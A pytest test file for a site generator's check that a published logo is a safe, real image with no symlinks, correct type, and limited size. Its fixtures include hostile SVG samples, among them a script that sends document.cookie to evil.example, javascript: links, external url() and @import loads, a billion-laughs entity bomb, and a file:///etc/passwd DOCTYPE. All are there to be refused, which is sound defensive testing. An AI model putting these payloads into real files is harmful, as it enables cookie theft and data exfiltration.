"""The logo is the one file of the repository the public site copies as is: it must be an image, the image
site.yaml names (no symbolic link on the way), of the type its bytes say, small, and — for an SVG — a plain
drawing that runs no code and loads nothing."""

from __future__ import annotations

import os
import struct
import time
import zlib
from pathlib import Path

import pytest
from click.testing import CliRunner

from site_gen.check import check_repository
from site_gen.cli import main
from site_gen.sites import render_sites

from .conftest import TODAY, copy_example, edit, found, problems

LOGO_LINE = 9  # `logo: null` in the example's site.yaml
SVG = "http://www.w3.org/2000/svg"
SECRET = "extraheader = AUTHORIZATION: basic c2VjcmV0LXRva2Vu"


def tiny_png() -> bytes:
    """A real 1×1 PNG, built here so the test needs no binary fixture."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x0a\x7d\x5a\xff"))
            + chunk(b"IEND", b""))


def with_logo(root: Path, logo: str) -> Path:
    edit(root / "site.yaml", "logo: null", f"logo: {logo}")
    return root


def build_cli(root: Path, out: Path):
    return CliRunner().invoke(main, ["build", str(root), "--today", "2026-11-23", "--out", str(out)])


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = copy_example(tmp_path / "repo")
    (root / ".git").mkdir()
    (root / ".git/config").write_text(f'[http "https://github.com/"]\n\t{SECRET}\n', "utf-8")
    (root / "assets").mkdir()
    return root


@pytest.mark.parametrize("target", ["../feedback/surveys-and-reviews.csv", "../.git/config"])
def test_a_logo_that_is_a_symbolic_link_is_refused_and_nothing_is_published(target: str, repo: Path) -> None:
    (repo / "assets/logo.svg").symlink_to(target)
    with_logo(repo, "assets/logo.svg")
    result = check_repository(repo, TODAY)
    assert found(result) == [("site.yaml", LOGO_LINE, "asset")]
    assert "'assets/logo.svg' is a symbolic link" in problems(result)[0].message
    outcome = build_cli(repo, repo / "_site")
    assert outcome.exit_code == 1 and "Traceback" not in outcome.output
    assert not (repo / "_site").exists()


@pytest.mark.parametrize("inside", [True, False])
def test_a_symbolic_link_to_a_folder_on_the_way_to_the_logo_is_refused(inside: bool, repo: Path) -> None:
    """Even when the linked folder holds a clean SVG: what is published must be what the path names."""
    elsewhere = repo / "brand-files" if inside else repo.parent / "elsewhere"
    (elsewhere / "v2").mkdir(parents=True)
    (elsewhere / "v2/logo.svg").write_text(f'<svg xmlns="{SVG}"/>', "utf-8")
    (repo / "assets/brand").symlink_to(elsewhere)
    with_logo(repo, "assets/brand/v2/logo.svg")
    result = check_repository(repo, TODAY)
    assert found(result) == [("site.yaml", LOGO_LINE, "asset")]
    assert "the folder 'assets/brand' on the way to it is a symbolic link" in problems(result)[0].message


def test_a_logo_that_is_not_a_regular_file_is_refused_without_waiting_on_it(repo: Path) -> None:
    os.mkfifo(repo / "assets/logo.svg")  # opening a FIFO to read waits for a writer: the check must not
    with_logo(repo, "assets/logo.svg")
    started = time.monotonic()
    result = check_repository(repo, TODAY)
    assert time.monotonic() - started < 30
    assert found(result) == [("site.yaml", LOGO_LINE, "reference")]
    assert "not a regular file" in problems(result)[0].message


def test_png_bytes_named_svg_are_published_as_png(repo: Path) -> None:
    (repo / "assets/logo.svg").write_bytes(tiny_png())
    with_logo(repo, "assets/logo.svg")
    outcome = build_cli(repo, repo / "_site")
    assert outcome.exit_code == 0, outcome.output
    assert (repo / "_site/public/assets/logo.png").read_bytes() == tiny_png()
    assert not (repo / "_site/public/assets/logo.svg").exists()
    assert '<img src="assets/logo.png" alt="">' in (repo / "_site/public/index.html").read_text("utf-8")


@pytest.mark.parametrize("magic, extension", [(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", ".jpg"),
                                              (b"GIF89a\x01\x00\x01\x00", ".gif"),
                                              (b"RIFF\x1a\x00\x00\x00WEBPVP8L", ".webp")])
def test_the_published_extension_is_the_one_the_bytes_say(magic: bytes, extension: str, repo: Path) -> None:
    (repo / "assets/logo.png").write_bytes(magic + bytes(64))
    with_logo(repo, "assets/logo.png")
    site = render_sites(check_repository(repo, TODAY), repo, only="public")["public"]
    assert site[f"assets/logo{extension}"] == magic + bytes(64)
    assert [name for name in site if name.startswith("assets/logo")] == [f"assets/logo{extension}"]


def test_a_real_png_and_a_clean_svg_with_internal_references_are_published_as_they_are(repo: Path) -> None:
    (repo / "assets/logo.png").write_bytes(tiny_png())
    clean = (f'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink"'
             ' viewBox="0 0 10 10">\n  <defs><linearGradient id="g"><stop offset="0" stop-color="#0a7d5a"/>'
             '</linearGradient><circle id="c" r="4"/></defs>\n'
             '  <style>.mark { fill: url(#g); }</style>\n'
             '  <use xlink:href="#c" class="mark"/><use href="#c" fill="url(\'#g\')" style="stroke:url( #g )"/>\n'
             '  <a href="#c"><title>Kestrel</title></a>\n</svg>\n')
    (repo / "assets/logo.svg").write_text(clean, "utf-8")
    with_logo(repo, "assets/logo.png")
    site = render_sites(check_repository(repo, TODAY), repo, only="public")["public"]
    assert site["assets/logo.png"] == tiny_png()
    edit(repo / "site.yaml", "logo: assets/logo.png", "logo: ./assets/logo.svg")
    result = check_repository(repo, TODAY)
    assert found(result) == []
    assert render_sites(result, repo, only="public")["public"]["assets/logo.svg"] == clean.encode()


@pytest.mark.parametrize("empty", ['""', ""])
def test_an_empty_logo_is_no_logo(empty: str, repo: Path) -> None:
    with_logo(repo, empty)
    outcome = build_cli(repo, repo / "_site")
    assert outcome.exit_code == 0, outcome.output
    assert not list((repo / "_site/public/assets").glob("logo*"))


def test_the_build_publishes_the_bytes_the_check_read(repo: Path) -> None:
    """No check/use race: a file swapped after loading is not what gets published."""
    (repo / "assets/logo.svg").write_text(f'<svg xmlns="{SVG}"/>', "utf-8")
    with_logo(repo, "assets/logo.svg")
    result = check_repository(repo, TODAY)
    (repo / "assets/logo.svg").unlink()
    (repo / "assets/logo.svg").symlink_to("../.git/config")
    site = render_sites(result, repo, only="public")["public"]
    assert site["assets/logo.svg"] == f'<svg xmlns="{SVG}"/>'.encode()
    assert SECRET.encode() not in b"".join(site.values())


def test_an_oversized_logo_is_refused(repo: Path) -> None:
    (repo / "assets/logo.png").write_bytes(tiny_png() + bytes(512 * 1024))
    with_logo(repo, "assets/logo.png")
    result = check_repository(repo, TODAY)
    assert found(result) == [("assets/logo.png", 1, "asset")]
    assert "the limit is 512 KiB" in problems(result)[0].message


def test_a_file_that_is_no_image_is_refused_whatever_its_name(repo: Path) -> None:
    (repo / "assets/logo.png").write_text("id,date,verbatim\nTCK-1,2026-01-02,Ana Lima ana@example.com\n", "utf-8")
    with_logo(repo, "assets/logo.png")
    result = check_repository(repo, TODAY)
    assert found(result) == [("assets/logo.png", 1, "asset")]
    assert "not a PNG, JPEG, GIF, WebP or SVG image" in problems(result)[0].message


LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
UNSAFE_SVGS = {
    "script": ("<script>fetch('https://evil.example/?c=' + document.cookie)</script>", "a script"),
    "event handler": ('<rect width="10" height="10" onload="alert(1)"/>', "event handler onload"),
    "foreignObject": ("<foreignObject><div xmlns='http://www.w3.org/1999/xhtml'>hi</div></foreignObject>",
                      "foreignObject"),
    "external xlink:href": ('<image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>',
                            'xlink:href="https://evil.example/pixel.png"'),
    "javascript link": ('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>', "a reference outside"),
    "external url() in style": ('<rect style="fill:url(https://evil.example/p.svg#a)" width="1" height="1"/>',
                                "url(https://evil.example/p.svg#a)"),
    "external url() in a presentation attribute": ('<rect fill="url(//evil.example/p.svg#a)"/>', "pointing outside"),
    "url() hidden by a CSS escape": (r'<rect fill="u\72 l(https://evil.example/p.svg#a)"/>', "pointing outside"),
    "@import in <style>": ("<style>@import 'https://evil.example/x.css'; rect { fill: red }</style>", "@import"),
    "animated link": ('<a href="#c"><set attributeName="href" to="javascript:alert(1)"/></a>', "animates"),
    "HTML element": ("<h:iframe xmlns:h='http://www.w3.org/1999/xhtml' src='https://evil.example'/>", "iframe"),
}


@pytest.mark.parametrize("construct", UNSAFE_SVGS)
def test_an_svg_that_runs_code_or_loads_other_files_is_refused_at_its_own_line(construct: str, repo: Path) -> None:
    element, says = UNSAFE_SVGS[construct]
    (repo / "assets/logo.svg").write_text(
        f'<?xml version="1.0"?>\n<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
        f'  <circle id="c" r="4"/>\n  {element}\n</svg>\n', "utf-8")
    with_logo(repo, "assets/logo.svg")
    result = check_repository(repo, TODAY)
    assert found(result) == [("assets/logo.svg", 4, "asset")], result.diagnostics
    assert says in problems(result)[0].message


@pytest.mark.parametrize("prolog, says", [
    (f'<!DOCTYPE svg [\n{LAUGHS}\n]>\n', "DOCTYPE"),
    ('<!DOCTYPE svg SYSTEM "file:///etc/passwd">\n', "DOCTYPE"),
    ('<?xml-stylesheet href="https://evil.example/x.css"?>\n', "processing instruction"),
])
def test_an_svg_with_a_doctype_entities_or_a_stylesheet_is_refused_before_anything_expands(
        prolog: str, says: str, repo: Path) -> None:
    body = "&lol9;" if "lol9" in prolog else ""
    (repo / "assets/logo.svg").write_text(f'<?xml version="1.0"?>\n{prolog}<svg xmlns="{SVG}">{body}</svg>\n',
                                          "utf-8")
    with_logo(repo, "assets/logo.svg")
    started = time.monotonic()
    result = check_repository(repo, TODAY)
    assert time.monotonic() - started < 30
    assert found(result) == [("assets/logo.svg", 2, "asset")]
    assert says in problems(result)[0].message


def test_an_svg_that_is_not_well_formed_or_not_svg_is_refused_at_its_line(repo: Path) -> None:
    (repo / "assets/logo.svg").write_text(f'<svg xmlns="{SVG}">\n<g>\n</svg>\n', "utf-8")
    with_logo(repo, "assets/logo.svg")
    result = check_repository(repo, TODAY)
    assert found(result) == [("assets/logo.svg", 3, "asset")]
    assert "not well-formed" in problems(result)[0].message
    (repo / "assets/logo.svg").write_text("<svg><rect/></svg>", "utf-8")
    result = check_repository(repo, TODAY)
    assert found(result) == [("assets/logo.svg", 1, "asset")]
    assert "without the SVG namespace" in problems(result)[0].message
